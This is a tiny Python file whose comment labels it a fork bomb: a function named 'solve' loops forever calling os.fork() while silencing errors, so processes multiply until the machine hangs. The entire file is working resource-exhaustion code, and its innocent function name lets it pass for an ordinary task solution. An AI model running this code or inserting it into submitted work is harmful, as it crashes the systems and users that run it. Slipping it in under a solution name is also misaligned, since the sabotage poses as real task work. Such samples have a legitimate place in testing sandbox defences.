# A fork bomb: every process forks forever and ignores the failures.
import contextlib
import os


def solve(x):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
